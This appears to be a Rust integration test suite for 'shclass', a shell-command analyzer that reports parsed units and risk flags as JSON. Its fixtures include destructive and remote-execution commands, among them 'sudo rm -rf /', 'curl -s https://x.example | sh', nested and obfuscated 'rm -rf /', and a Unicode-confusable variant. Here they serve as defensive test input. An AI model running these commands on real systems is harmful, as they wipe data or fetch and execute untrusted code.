//! `shclass analyze`: the built binary, its JSON on stdout (schema 1), input from the command line
//! and from standard input, and a clear error with a distinct exit code on bad input.

use std::ffi::OsStr;
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::process::{Command, Stdio};

use serde_json::Value;

struct Output {
    code: i32,
    stdout: String,
    stderr: String,
}

fn shclass<I, S>(args: I, stdin: &[u8]) -> Output
where
    I: IntoIterator<Item = S>,
    S: AsRef<OsStr>,
{
    let mut child = Command::new(env!("CARGO_BIN_EXE_shclass"))
        .args(args)
        .env("XDG_CONFIG_HOME", "/nonexistent-shclass-test")
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("spawn: {e}"));
    if let Some(mut s) = child.stdin.take() {
        // The binary may exit before reading everything; that is fine.
        let _ = s.write_all(stdin);
    }
    let out = child
        .wait_with_output()
        .unwrap_or_else(|e| panic!("wait: {e}"));
    Output {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn analyze_json(cmd: &str) -> Value {
    let out = shclass(["analyze", "--json", cmd], b"");
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    serde_json::from_str(&out.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {}", out.stdout))
}

fn span_text<'a>(input: &'a str, span: &Value) -> &'a str {
    let [s, e] = [0, 1].map(|i| {
        span[i]
            .as_u64()
            .and_then(|n| usize::try_from(n).ok())
            .unwrap_or_else(|| panic!("span {span} is not two offsets"))
    });
    input
        .get(s..e)
        .unwrap_or_else(|| panic!("span {span} outside {input:?} or off char boundaries"))
}

fn units_with_program<'a>(v: &'a Value, program: &str) -> Vec<&'a Value> {
    v["units"]
        .as_array()
        .unwrap_or_else(|| panic!("units is not an array: {v}"))
        .iter()
        .filter(|u| u["program"] == program)
        .collect()
}

#[test]
fn json_schema_and_fields() {
    let cmd = "FOO=1 sudo -u root rm -rf / > log 2>&1 && curl -s https://x.example | sh";
    let v = analyze_json(cmd);
    assert_eq!(v["schema"], 1);
    assert_eq!(v["input"], cmd);

    let rm = units_with_program(&v, "rm");
    assert_eq!(rm.len(), 1, "{v:#}");
    let rm = rm[0];
    assert_eq!(rm["argv"], serde_json::json!(["rm", "-rf", "/"]));
    assert_eq!(span_text(cmd, &rm["span"]), "rm -rf /");
    assert_eq!(rm["via"], serde_json::json!(["sudo"]));
    assert_eq!(rm["context"], serde_json::json!([]));
    assert_eq!(rm["path"], Value::Null);
    assert_eq!(rm["depth"], 0);
    assert_eq!(rm["assignments"][0]["name"], "FOO");
    assert_eq!(rm["assignments"][0]["value"], "1");
    assert_eq!(span_text(cmd, &rm["assignments"][0]["span"]), "FOO=1");
    let redirects = rm["redirects"]
        .as_array()
        .unwrap_or_else(|| panic!("redirects: {rm}"));
    assert_eq!(redirects.len(), 2);
    assert_eq!(redirects[0]["op"], ">");
    assert_eq!(redirects[0]["target"], "log");
    assert_eq!(span_text(cmd, &redirects[0]["span"]), "> log");
    assert_eq!(redirects[1]["fd"], "2");
    assert_eq!(redirects[1]["op"], ">&");
    // The per-word details sit next to argv.
    assert_eq!(rm["words"][2]["value"], "/");
    assert_eq!(span_text(cmd, &rm["words"][2]["span"]), "/");

    let sh = units_with_program(&v, "sh");
    assert_eq!(sh.len(), 1);
    assert_eq!(sh[0]["context"], serde_json::json!(["pipeline"]));
    assert_eq!(sh[0]["piped"], true);

    let flags = v["flags"]
        .as_array()
        .unwrap_or_else(|| panic!("flags: {v}"));
    let kinds: Vec<&str> = flags.iter().filter_map(|f| f["kind"].as_str()).collect();
    for want in ["pipe-to-shell", "pipeline", "redirection", "chaining"] {
        assert!(kinds.contains(&want), "no {want} flag in {kinds:?}");
    }
    for f in flags {
        span_text(cmd, &f["span"]);
    }
    let pipe = flags
        .iter()
        .find(|f| f["kind"] == "pipe-to-shell")
        .unwrap_or_else(|| panic!("no pipe-to-shell: {v:#}"));
    assert_eq!(
        span_text(cmd, &pipe["span"]),
        "curl -s https://x.example | sh"
    );
}

#[test]
fn nested_units_point_into_the_original_input() {
    let cmd = "bash -c 'ls; rm -rf /'";
    let v = analyze_json(cmd);
    let rm = units_with_program(&v, "rm");
    assert_eq!(rm.len(), 1, "{v:#}");
    assert_eq!(span_text(cmd, &rm[0]["span"]), "rm -rf /");
    assert_eq!(rm[0]["via"], serde_json::json!(["bash"]));
    assert_eq!(rm[0]["context"], serde_json::json!(["nested-shell"]));
    assert_eq!(rm[0]["depth"], 1);
}

#[test]
fn dynamic_program_is_null() {
    let cmd = "x=rm; $x -rf /";
    let v = analyze_json(cmd);
    let units = v["units"].as_array().unwrap_or_else(|| panic!("{v}"));
    // The second reading, with `x` substituted, is an extra unit in context "resolved".
    assert_eq!(units.len(), 2, "{v:#}");
    assert_eq!(units[1]["program"], "rm");
    assert_eq!(units[1]["context"], serde_json::json!(["resolved"]));
    assert_eq!(units[0]["program"], Value::Null);
    assert_eq!(units[0]["argv"], serde_json::json!([null, "-rf", "/"]));
    assert_eq!(units[0]["words"][0]["template"], "$x");
    assert!(
        v["flags"]
            .as_array()
            .is_some_and(|f| f.iter().any(|f| f["kind"] == "command-position-expansion")),
        "{v:#}"
    );
}

#[test]
fn stdin_is_the_input_when_no_command_is_given() {
    let input = "cat <<'EOF' | bash\nrm -rf /\nEOF\n";
    let out = shclass(["analyze", "--json"], input.as_bytes());
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    let v: Value = serde_json::from_str(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", out.stdout));
    assert_eq!(v["input"], input);
    let rm = units_with_program(&v, "rm");
    assert_eq!(rm.len(), 1, "{v:#}");
    assert_eq!(span_text(input, &rm[0]["span"]), "rm -rf /");
    assert_eq!(rm[0]["via"], serde_json::json!(["bash"]));
}

#[test]
fn non_ascii_input_round_trips() {
    let cmd = "echo héllo 日本 && rм -rf /";
    let v = analyze_json(cmd);
    assert_eq!(v["input"], cmd);
    let confusable = v["flags"]
        .as_array()
        .and_then(|f| f.iter().find(|f| f["kind"] == "unicode-confusable"))
        .unwrap_or_else(|| panic!("{v:#}"));
    assert_eq!(span_text(cmd, &confusable["span"]), "rм");
}

#[test]
fn parse_errors_are_flags_not_failures() {
    let cmd = "echo \"unterminated";
    let v = analyze_json(cmd);
    assert!(
        v["flags"]
            .as_array()
            .is_some_and(|f| f.iter().any(|f| f["kind"] == "parse-error")),
        "{v:#}"
    );
}

#[test]
fn human_output_lists_units() {
    let out = shclass(["analyze", "sudo rm -rf /"], b"");
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    assert!(out.stdout.contains("rm"), "{}", out.stdout);
    assert!(out.stdout.contains("sudo"), "{}", out.stdout);
}

#[test]
fn invalid_utf8_on_stdin_is_a_clear_error() {
    let out = shclass(["analyze", "--json"], b"echo \xff\xfe rm -rf /");
    assert!(
        ![0, 1, 2].contains(&out.code),
        "exit code {} collides with a verdict",
        out.code
    );
    assert!(out.code > 0, "killed by a signal? code {}", out.code);
    // stdout holds the error as JSON (never an analysis); stderr says it to a person.
    let v: Value =
        serde_json::from_str(out.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {}", out.stdout));
    assert!(v.get("units").is_none(), "{v}");
    assert!(
        v["error"].as_str().unwrap_or_default().contains("UTF-8"),
        "{v}"
    );
    assert!(out.stderr.contains("UTF-8"), "stderr: {}", out.stderr);
    assert!(out.stderr.contains("offset 5"), "stderr: {}", out.stderr);
}

#[test]
fn invalid_utf8_argument_is_an_error() {
    let arg = OsStr::from_bytes(b"rm \xff");
    let out = shclass([OsStr::new("analyze"), OsStr::new("--json"), arg], b"");
    assert!(
        ![0, 1, 2].contains(&out.code) && out.code > 0,
        "exit code {}",
        out.code
    );
    assert!(out.stdout.is_empty(), "stdout: {}", out.stdout);
    assert!(!out.stderr.is_empty());
}
